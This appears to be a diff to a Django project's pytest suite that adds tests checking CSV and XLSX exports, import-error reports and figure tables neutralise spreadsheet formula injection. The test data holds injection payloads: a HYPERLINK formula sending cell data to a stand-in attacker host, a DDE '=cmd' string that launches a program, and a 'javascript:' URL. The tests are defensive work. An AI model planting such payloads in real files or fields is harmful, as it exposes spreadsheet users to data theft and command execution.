@@ -1,16 +1,29 @@
 """Hostile input: what users type is never turned into a script or a formula for others."""
 
 import html
+import io
 
+import openpyxl
 import pytest
 from django.core.exceptions import ValidationError
 from django.urls import reverse
 
+from alliance.base.spreadsheets import safe_text
+from alliance.figures.tables import for_csv
 from chambers.models import StaffRole
+from events import services
+from members import imports
 from members.forms import CompanyProfileForm
 from members.models import Company
-from tests.factories import ChamberFactory, CompanyFactory, PartnerFactory, staff_user
+from tests.factories import (
+    ChamberFactory,
+    CompanyFactory,
+    PartnerFactory,
+    PersonFactory,
+    staff_user,
+)
 from tests.helpers import client_for, rejected_by_database
+from tests.staff.test_exports import export, parse_csv
 from tests.staff.test_imports import HEADER, csv_file, new_member_form, row, upload
 
 pytestmark = pytest.mark.django_db
@@ -91,3 +104,55 @@ def test_the_models_refuse_it_in_full_clean(db):
 def test_the_database_refuses_it_whatever_the_way_in(factory, constraint):
     with rejected_by_database(constraint):
         factory(website="javascript:alert(1)")
+
+
+# --- formulas in exports ------------------------------------------------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?"&A1;"klik")',
+    "+32 15 00 00 00",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+]
+
+
+@pytest.mark.parametrize("text", [*FORMULAS, "\r=1+1"])
+def test_text_a_spreadsheet_would_run_gets_a_quote(text):
+    assert safe_text(text) == "'" + text
+    assert safe_text("Els") == "Els" and safe_text(12) == 12
+
+
+@pytest.fixture
+def formula_attendees(event, company):
+    for n, name in enumerate(FORMULAS):
+        person = PersonFactory(
+            company=company, first_name=name, last_name=f"Naam{n}", email=f"f{n}@anker.example"
+        )
+        services.registration_create(event=event, person=person)
+
+
+def test_a_csv_export_neutralises_formulas(event_manager, event, formula_attendees):
+    response = export(client_for(event_manager), event, "csv")
+    first_names = [row[0] for row in parse_csv(response.content)[1:]]
+    assert sorted(first_names) == sorted("'" + name for name in FORMULAS)
+
+
+def test_an_xlsx_export_writes_them_as_text_never_as_formulas(
+    event_manager, event, formula_attendees
+):
+    response = export(client_for(event_manager), event, "xlsx")
+    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).worksheets[0]
+    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
+    assert {cell.data_type for cell in cells} == {"s"}
+    assert sorted(cell.value for cell in cells) == sorted("'" + name for name in FORMULAS)
+
+
+def test_the_import_errors_csv_neutralises_what_the_file_said(importer):
+    job = {"errors": [{"line": 2, "column": "naam", "message": "=1+1"}]}
+    assert imports.errors_csv(job).splitlines()[1] == "2,naam,'=1+1"
+
+
+def test_a_figures_csv_neutralises_a_chamber_named_like_a_formula(db):
+    assert for_csv("=cmd|' /C calc'!A0", "text") == "'=cmd|' /C calc'!A0"
+    assert for_csv(-3, "number") == -3, "numbers stay numbers"
